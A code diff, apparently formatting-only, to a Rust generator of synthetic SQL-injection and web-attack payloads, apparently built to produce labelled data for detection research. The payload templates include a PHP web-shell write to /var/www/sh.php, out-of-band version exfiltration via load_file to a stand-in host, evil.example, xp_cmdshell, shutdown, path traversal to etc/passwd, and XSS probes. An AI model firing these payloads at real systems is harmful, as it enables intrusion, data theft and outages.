@@ -245,7 +245,11 @@ pub fn raw_payload_styled<R: Rng>(
                     sqli::tautology(rng),
                     rng.gen_range(1..6)
                 ),
-                2 => format!("and benchmark({},md5({}))", rng.gen_range(100_000..9_000_000), rng.gen_range(1..9)),
+                2 => format!(
+                    "and benchmark({},md5({}))",
+                    rng.gen_range(100_000..9_000_000),
+                    rng.gen_range(1..9)
+                ),
                 _ => {
                     // SQLmap uses a random derived-table alias; the
                     // write-up idiom is a fixed `x`.
@@ -296,7 +300,13 @@ pub fn raw_payload_styled<R: Rng>(
                     sqli::concat_expr_styled(rng, style)
                 ),
             };
-            format!("{}{} {}{}", sqli::base_id(rng), sqli::breakout(rng), probe, suffix(rng))
+            format!(
+                "{}{} {}{}",
+                sqli::base_id(rng),
+                sqli::breakout(rng),
+                probe,
+                suffix(rng)
+            )
         }
         AttackFamily::Stacked => {
             let stmt = match rng.gen_range(0..4) {
@@ -315,7 +325,13 @@ pub fn raw_payload_styled<R: Rng>(
                 ),
                 _ => "shutdown".to_string(),
             };
-            format!("{}{}; {}{}", sqli::base_id(rng), sqli::breakout(rng), stmt, suffix(rng))
+            format!(
+                "{}{}; {}{}",
+                sqli::base_id(rng),
+                sqli::breakout(rng),
+                stmt,
+                suffix(rng)
+            )
         }
         AttackFamily::Tautology => {
             let t = sqli::tautology(rng);
@@ -345,7 +361,10 @@ pub fn raw_payload_styled<R: Rng>(
             raw_payload_styled(pick_base_family(rng), rng, style)
         }
         AttackFamily::CharFunction => {
-            let s = sqli::pick(rng, &["admin", "root", "user", "test", "guest", "login", "x"]);
+            let s = sqli::pick(
+                rng,
+                &["admin", "root", "user", "test", "guest", "login", "x"],
+            );
             let codes = s
                 .bytes()
                 .map(|b| b.to_string())
@@ -356,7 +375,13 @@ pub fn raw_payload_styled<R: Rng>(
                 1 => format!("and username=char({codes})"),
                 _ => format!("union select concat(char(58),char({codes}),char(58))"),
             };
-            format!("{}{} {}{}", sqli::base_id(rng), sqli::breakout(rng), probe, suffix(rng))
+            format!(
+                "{}{} {}{}",
+                sqli::base_id(rng),
+                sqli::breakout(rng),
+                probe,
+                suffix(rng)
+            )
         }
         AttackFamily::InfoSchema => {
             let probe = match rng.gen_range(0..3) {
@@ -367,7 +392,13 @@ pub fn raw_payload_styled<R: Rng>(
                 ),
                 _ => "and (select count(*) from information_schema.schemata)>0".to_string(),
             };
-            format!("{}{} {}{}", sqli::base_id(rng), sqli::breakout(rng), probe, suffix(rng))
+            format!(
+                "{}{} {}{}",
+                sqli::base_id(rng),
+                sqli::breakout(rng),
+                probe,
+                suffix(rng)
+            )
         }
         AttackFamily::OutOfBand => {
             let probe = match rng.gen_range(0..3) {
@@ -376,9 +407,16 @@ pub fn raw_payload_styled<R: Rng>(
                     "union select {} into outfile '/var/www/sh.php'",
                     sqli::string_literal(rng)
                 ),
-                _ => "union select load_file(concat('\\\\\\\\',version(),'.evil.example\\\\x'))".to_string(),
+                _ => "union select load_file(concat('\\\\\\\\',version(),'.evil.example\\\\x'))"
+                    .to_string(),
             };
-            format!("{}{} {}{}", sqli::base_id(rng), sqli::breakout(rng), probe, suffix(rng))
+            format!(
+                "{}{} {}{}",
+                sqli::base_id(rng),
+                sqli::breakout(rng),
+                probe,
+                suffix(rng)
+            )
         }
         AttackFamily::OrderByProbe => {
             let probe = match rng.gen_range(0..3) {
@@ -386,7 +424,13 @@ pub fn raw_payload_styled<R: Rng>(
                 1 => format!("group by {}", rng.gen_range(1..12)),
                 _ => "procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)".to_string(),
             };
-            format!("{}{} {}{}", sqli::base_id(rng), sqli::breakout(rng), probe, suffix(rng))
+            format!(
+                "{}{} {}{}",
+                sqli::base_id(rng),
+                sqli::breakout(rng),
+                probe,
+                suffix(rng)
+            )
         }
         AttackFamily::ForeignNoise => {
             // Two coherent noise groups (→ the paper's two black-hole
@@ -397,10 +441,7 @@ pub fn raw_payload_styled<R: Rng>(
             if rng.gen_bool(0.5) {
                 match rng.gen_range(0..3) {
                     0 => format!("<script>alert({})</script>", rng.gen_range(1..999)),
-                    1 => format!(
-                        "<img src=x onerror=alert({})>",
-                        rng.gen_range(1..999)
-                    ),
+                    1 => format!("<img src=x onerror=alert({})>", rng.gen_range(1..999)),
                     _ => format!(
                         "../../../{}",
                         ["etc/passwd", "windows/win.ini", "boot.ini"][rng.gen_range(0..3)]
@@ -408,10 +449,7 @@ pub fn raw_payload_styled<R: Rng>(
                 }
             } else {
                 match rng.gen_range(0..3) {
-                    0 => format!(
-                        "1 waitfor delay '0:0:{}'",
-                        rng.gen_range(1..20)
-                    ),
+                    0 => format!("1 waitfor delay '0:0:{}'", rng.gen_range(1..20)),
                     1 => "1 exec master..xp_cmdshell 'dir'".to_string(),
                     _ => format!(
                         "1 declare @v varchar({}) exec sp_executesql @v",
@@ -549,7 +587,12 @@ mod tests {
         let mut rng = ChaCha8Rng::seed_from_u64(4);
         for _ in 0..30 {
             let raw = raw_payload(AttackFamily::EncodedObfuscated, &mut rng);
-            let wire = obfuscate(&raw, AttackFamily::EncodedObfuscated, &ObfuscationProfile::portal(), &mut rng);
+            let wire = obfuscate(
+                &raw,
+                AttackFamily::EncodedObfuscated,
+                &ObfuscationProfile::portal(),
+                &mut rng,
+            );
             assert!(wire.contains('%'), "{wire}");
             let norm = String::from_utf8_lossy(&normalize(wire.as_bytes())).into_owned();
             assert!(
@@ -567,7 +610,12 @@ mod tests {
     fn obfuscation_none_is_identity() {
         let mut rng = ChaCha8Rng::seed_from_u64(5);
         let p = "1 union select 2";
-        let o = obfuscate(p, AttackFamily::UnionBased, &ObfuscationProfile::none(), &mut rng);
+        let o = obfuscate(
+            p,
+            AttackFamily::UnionBased,
+            &ObfuscationProfile::none(),
+            &mut rng,
+        );
         assert_eq!(o, p);
     }
 
